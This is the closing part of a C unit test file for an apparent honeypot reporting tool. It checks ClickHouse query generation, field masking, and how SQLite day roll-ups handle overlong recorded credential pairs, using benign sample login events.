    assert_int_equal(ch_prepare(&x, &o, err, sizeof(err)), 0);
    assert_non_null(strstr(x.range, "ts >= 1793491200000000 AND ts < 1793664000000000"));
    assert_non_null(strstr(x.range, "day >= toDate('2026-11-01') AND day <= toDate('2026-11-02')"));
    assert_non_null(strstr(x.range, "sensor IN ('tokyo', 'o\\x27brien\\x5Cx')"));
    assert_non_null(strstr(x.sc, "transform(sensor, ['tokyo', 'o\\x27brien'], ['JP', 'DE'], '')"));
    struct hp_buf b;
    hp_buf_init(&b, 1 << 20);
    ch_expand(&x, "a @R b @N c @D @MA(x@MB) @IP @@", &b);
    /* a text key is cut as the roll-ups cut it (HP_ROLLUP_KEY_MAX bytes) */
    assert_non_null(strstr(hp_buf_cstr(&b), " c 20758 substring(x, 1, 1024) src_ip @@"));
    assert_non_null(strstr(hp_buf_cstr(&b), " b 7 "));
    hp_buf_reset(&b);
    o.mask = true;
    ch_expand(&x, "@MA(x@MB) @IP", &b);
    assert_non_null(strstr(hp_buf_cstr(&b), "replaceRegexpAll(substring(x, 1, 1024), "));
    assert_non_null(strstr(hp_buf_cstr(&b), "cutIPv6("));
    hp_buf_free(&b);

    o.sensors = "a,,b";
    assert_int_equal(ch_prepare(&x, &o, err, sizeof(err)), -1);
    o.sensors = NULL;
    o.sensor_country = "tokyo";
    assert_int_equal(ch_prepare(&x, &o, err, sizeof(err)), -1);
}

/* A credential pair longer than a roll-up key is cut inside its JSON text:
 * the day report (roll-ups) still answers, with the pair's rows. */
static void test_rollup_cut_pair(void **state)
{
    (void)state;
    char err[256], user[1101], extra[1400];
    sqlite3 *keep = db;
    memset(user, 'A', 1100);
    user[1100] = '\0';
    assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
    assert_int_equal(sqlite3_exec(db, schema_sql_for_test, NULL, NULL, NULL), SQLITE_OK);
    snprintf(extra, sizeof(extra), "\"username\":\"%s\",\"password\":\"pw\"", user);
    ins(DAY1 + 100, "login.failed", "192.0.2.1", 23, extra);
    ins(DAY1 + 101, "http.credentials", "192.0.2.1", 80, extra);
    ins(DAY1 + 102, "login.failed", "192.0.2.1", 23, "\"username\":\"root\",\"password\":\"pw\"");
    assert_int_equal(hp_rollup_rebuild(db, NULL, NULL, err, sizeof(err)), 0);
    struct rp_opts o = opts(RP_TEXT, false);
    struct rp_report r;
    assert_int_equal(hp_report_rollup_usable(db, &o), RP_ROLLUP_DAY);
    /* The writer keeps the pair key JSON: the username is cut, the password whole. */
    sqlite3_stmt *st;
    assert_int_equal(sqlite3_prepare_v2(db, "SELECT count(*) FROM rollup_day WHERE dim = 'pair' AND"
                                        " (NOT json_valid(key) OR length(key) > 1024)", -1, &st, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_step(st), SQLITE_ROW);
    assert_int_equal(sqlite3_column_int(st, 0), 0);
    sqlite3_finalize(st);
    if (hp_report_build(db, &o, &r, err, sizeof(err)) != 0)
        fail_msg("report from the roll-ups failed: %s", err);
    const struct rp_section *s = sec(&r, "pairs");
    assert_int_equal(s->nrows, 2);
    assert_non_null(strstr(rp_cell_at(s, 0, 0)->s, "AAAAAAAA"));
    want_text(s, 0, 1, "pw");
    want_text(s, 1, 0, "root");
    want_text(s, 1, 1, "pw");
    s = sec(&r, "http_credentials");
    assert_int_equal(s->nrows, 1);
    assert_non_null(strstr(rp_cell_at(s, 0, 0)->s, "AAAAAAAA"));
    hp_report_free(&r);
    /* Stores written before cut their pair keys anywhere: such a key is shown whole as the username. */
    assert_int_equal(sqlite3_exec(db, "UPDATE rollup_day SET key = substr(key, 1, 600) WHERE dim = 'pair' AND"
                                  " length(key) > 1000", NULL, NULL, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_changes(db), 1);
    if (hp_report_build(db, &o, &r, err, sizeof(err)) != 0)
        fail_msg("report from the roll-ups failed: %s", err);
    s = sec(&r, "pairs");
    assert_int_equal(s->nrows, 2);
    assert_non_null(strstr(rp_cell_at(s, 0, 0)->s, "AAAAAAAA"));
    hp_report_free(&r);
    sqlite3_close(db);
    db = keep;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sources),   cmocka_unit_test(test_credentials),
        cmocka_unit_test(test_payloads_http), cmocka_unit_test(test_mask),
        cmocka_unit_test(test_time),      cmocka_unit_test(test_text),
        cmocka_unit_test(test_markdown),  cmocka_unit_test(test_json_csv),
        cmocka_unit_test(test_html),      cmocka_unit_test(test_html_cloud_cut),
        cmocka_unit_test(test_abuse),
        cmocka_unit_test(test_rollup_agrees), cmocka_unit_test(test_clickhouse_sections),
        cmocka_unit_test(test_rollup_cut_pair),
    };
    return cmocka_run_group_tests(tests, NULL, teardown);
}
